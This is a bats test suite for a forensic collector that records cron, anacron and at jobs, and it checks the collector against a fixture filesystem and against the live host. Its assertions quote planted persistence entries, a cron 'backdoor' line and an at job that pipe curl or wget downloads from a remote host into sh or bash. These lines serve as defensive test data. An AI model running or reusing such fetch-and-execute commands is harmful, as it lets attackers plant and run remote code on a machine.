#!/usr/bin/env bats
# The tasks collector (cron, anacron, at) on a fixture root and on this
# host.  Oracles: the fixture's known content, shell arithmetic for at
# job names, GNU date, grep/awk counts of the live /etc/cron.d.

load helpers

FIXTURE="$IRKIT_SRC/tests/data/roots/tasks"

setup() { setup_scratch; }
teardown() { teardown_scratch; }

# collect ROOT: leaves records in $SCRATCH/tasks.jsonl, log in log.jsonl
collect_tasks() {
	mkdir -p "$SCRATCH/out"
	run "$COLLECT" -q --root "$1" --only tasks -o "$SCRATCH/out"
	a=$(archive_in "$SCRATCH/out")
	tar --zstd -xOf "$a" --wildcards '*/records/tasks.jsonl' > "$SCRATCH/tasks.jsonl"
	tar --zstd -xOf "$a" --wildcards '*/log.jsonl' > "$SCRATCH/log.jsonl"
	tar --zstd -tf "$a" > "$SCRATCH/members"
	tar --zstd -xOf "$a" --wildcards '*/manifest.json' > "$SCRATCH/manifest.json"
}

@test "fixture root: every cron, anacron and at entry with the exact fields" {
	collect_tasks "$FIXTURE"
	[ "$status" -eq 0 ]
	python3 - "$SCRATCH/tasks.jsonl" <<'PY'
import json, sys
recs = [json.loads(l) for l in open(sys.argv[1])]
tasks = [r for r in recs if r["type"] == "task"]
def one(**kw):
    m = [t for t in tasks if all(t.get(k) == v for k, v in kw.items())]
    assert len(m) == 1, (kw, m)
    return m[0]
# /etc/crontab: env lines are context, CRLF stripped, % splits stdin
t = one(source_path="/etc/crontab", line=4)
assert t["schedule"] == "17 *\t* * *" and t["user"] == "root"
assert t["command"] == "cd / && run-parts --report /etc/cron.hourly"
assert t["env"]["PATH"] == "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin"
t = one(source_path="/etc/crontab", line=5)
assert t["command"].endswith("/etc/cron.daily )"), t   # no \r
t = one(source_path="/etc/crontab", line=6)
assert t["schedule"] == "@reboot" and t["at_boot"] is True and t["next_run"] is None
t = one(source_path="/etc/crontab", line=7)
assert t["command"] == 'echo "50%" | mail -s report'
assert t["input"] == "line one\nline two"
assert not [t for t in tasks if t.get("source_path") == "/etc/crontab" and t.get("line", 0) >= 8]
t = one(source_path="/etc/cron.d/backdoor")
assert t["command"] == "curl -s http://203.0.113.9/a.sh | sh" and t["kind"] == "cron"
t = one(source_path="/etc/cron.d/with.dot")
assert t["ignored_by_debian_cron"] is True
# user crontab: the user is the file's name, no user field
t = one(source_path="/var/spool/cron/crontabs/alice", line=2)
assert t["user"] == "alice" and t["schedule"] == "@daily"
assert t["command"] == "/home/alice/bin/sync.sh" and t["env"]["MAILTO"] == "alice"
# cron scripts
t = one(kind="cron-script", command="/etc/cron.daily/logrotate")
assert t["schedule"] == "daily" and t["executable"] is True
t = one(kind="cron-script", command="/etc/cron.hourly/.placeholder")
assert t["ignored_by_run_parts"] is True
# anacron, with the last run from /var/spool/anacron
t = one(kind="anacron", name="cron.daily")
assert t["schedule"] == "1 5" and t["last_run"] == "2026-11-20T00:00:00.000000Z"
t = one(kind="anacron", name="cron.monthly")
assert t["schedule"] == "@monthly 15" and t["last_run"] is None
# at jobs: commands after the generated preamble, here-document form too
ats = sorted((t for t in tasks if t["kind"] == "at"), key=lambda t: t["job"])
assert [t["queue"] for t in ats] == ["a", "b"]
assert ats[0]["command"] == "/usr/local/bin/evil.sh --from-at\nrm -f /tmp/x"
assert ats[0]["cwd"] == "/home/alice" and ats[0]["mail_user"] == "alice"
assert ats[1]["command"] == "wget -q -O- http://198.51.100.7/x | bash"
# source files carry their sha256; the command's script was copied
files = {r["path"]: r for r in recs if r["type"] == "file"}
assert files["/usr/local/bin/evil.sh"]["stored"] is True
for t in tasks:
    assert t["sha256"] == files[t["source_path"]]["sha256"], t
print(len(tasks), "tasks")
PY
	grep -q '/files/usr/local/bin/evil.sh$' "$SCRATCH/members"
	grep -q '/files/var/spool/cron/atjobs/b00002' "$SCRATCH/members"
	# bad lines are logged with file and line, nothing invented
	grep -q '"path":"/etc/crontab","message":"line 8: not a cron entry' "$SCRATCH/log.jsonl"
	grep -q '"path":"/etc/crontab","message":"line 11: not a cron entry: unknown @macro' "$SCRATCH/log.jsonl"
	grep -q '"path":"/etc/anacrontab","message":"line 6:' "$SCRATCH/log.jsonl"
}

@test "at job names decode to the run time GNU date computes" {
	collect_tasks "$FIXTURE"
	for f in "$FIXTURE"/var/spool/cron/atjobs/[a-z]*; do
		n=${f##*/}
		want=$(date -u -d "@$(( 16#${n:6:8} * 60 ))" +%Y-%m-%dT%H:%M:%S.000000Z)
		grep -q "\"job\":$(( 16#${n:1:5} )),\"run_at\":\"$want\"" "$SCRATCH/tasks.jsonl"
	done
}

@test "cron next_run for each entry is the next minute its fields allow" {
	collect_tasks "$FIXTURE"
	python3 - "$SCRATCH/tasks.jsonl" "$SCRATCH/manifest.json" <<'PY'
# independent brute force over minutes, against the collector's next_run
import json, sys, datetime as dt
def field(s, lo, hi, names=()):
    out = set()
    for item in s.split(","):
        rng, _, step = item.partition("/")
        step = int(step) if step else 1
        if rng == "*": a, b = lo, hi
        else:
            a, _, b = rng.partition("-")
            conv = lambda x: names.index(x.lower()[:3]) + (1 if lo == 1 else 0) if x.isalpha() else int(x)
            a = conv(a); b = conv(b) if b else (hi if step > 1 else a)
        out.update(range(a, b + 1, step))
    return out
MON = ["jan","feb","mar","apr","may","jun","jul","aug","sep","oct","nov","dec"]
DOW = ["sun","mon","tue","wed","thu","fri","sat"]
MAC = {"@hourly": "0 * * * *", "@daily": "0 0 * * *", "@midnight": "0 0 * * *",
       "@weekly": "0 0 * * 0", "@monthly": "0 0 1 * *", "@yearly": "0 0 1 1 *"}
for l in open(sys.argv[1]):
    t = json.loads(l)
    if t["type"] != "task" or t["kind"] != "cron" or not t.get("next_run"):
        continue
    f = MAC.get(t["schedule"], t["schedule"]).split()
    mi, h, dom, mon, dow = (field(f[0], 0, 59), field(f[1], 0, 23), field(f[2], 1, 31),
                            field(f[3], 1, 12, MON), {d % 7 for d in field(f[4], 0, 7, DOW)})
    got = dt.datetime.strptime(t["next_run"], "%Y-%m-%dT%H:%M:%S.%fZ")
    now = dt.datetime.strptime(json.load(open(sys.argv[2]))["start_time"], "%Y-%m-%dT%H:%M:%S.%fZ")
    # the match must be right, and no minute between "now" and it matches
    def ok(x):
        d_ok, w_ok = x.day in dom, (x.isoweekday() % 7) in dow
        day = (d_ok and w_ok) if (f[2] == "*" or f[4] == "*") else (d_ok or w_ok)
        return x.minute in mi and x.hour in h and x.month in mon and day
    assert ok(got), t
    x = now.replace(second=0, microsecond=0) + dt.timedelta(minutes=1)
    while x < got:
        assert not ok(x), (t, x)
        x += dt.timedelta(minutes=1)
print("ok")
PY
}

@test "hostile inputs: junk, a 1 MB line, a link loop, a spool that is a file" {
	root="$SCRATCH/root"
	cp -a "$FIXTURE" "$root"
	head -c 65536 /dev/urandom > "$root/etc/cron.d/junk"
	python3 -c "import sys; sys.stdout.write('* * * * * root ' + 'A' * (1 << 20) + '\n* * * * * root /bin/after-long-line\n')" > "$root/etc/cron.d/longline"
	ln -s loop1 "$root/etc/cron.d/loop2"; ln -s loop2 "$root/etc/cron.d/loop1"
	rm -rf "$root/var/spool/cron/atjobs"; echo "not a dir" > "$root/var/spool/cron/atjobs"
	collect_tasks "$root"
	[ "$status" -eq 0 ] || [ "$status" -eq 1 ]
	grep -q '"path":"/etc/cron.d/longline","message":"line 1: not a cron entry: line too long"' "$SCRATCH/log.jsonl"
	grep -q '"command":"/bin/after-long-line"' "$SCRATCH/tasks.jsonl"
	grep -q '"path":"/var/spool/cron/atjobs".*expected a directory' "$SCRATCH/log.jsonl"
	! grep -q '"kind":"at"' "$SCRATCH/tasks.jsonl" || false
	# the rest is still there
	grep -q '"source_path":"/etc/cron.d/backdoor"' "$SCRATCH/tasks.jsonl"
}

@test "live host: cron.d entries agree with an independent count" {
	[ -d /etc/cron.d ] || skip "no /etc/cron.d here"
	collect_tasks /
	want=0
	for f in /etc/cron.d/*; do
		[ -f "$f" ] || continue
		n=$(grep -cvE '^[[:space:]]*(#|$)|^[[:space:]]*[A-Za-z_][A-Za-z0-9_]*[[:space:]]*=' "$f" || true)
		want=$((want + n))
	done
	got=$(python3 -c "
import json,sys
print(sum(1 for l in open('$SCRATCH/tasks.jsonl') if (r:=json.loads(l))['type']=='task' and r['source_path'].startswith('/etc/cron.d/')))")
	echo "irkit $got, count $want"
	[ "$got" -eq "$want" ]
}
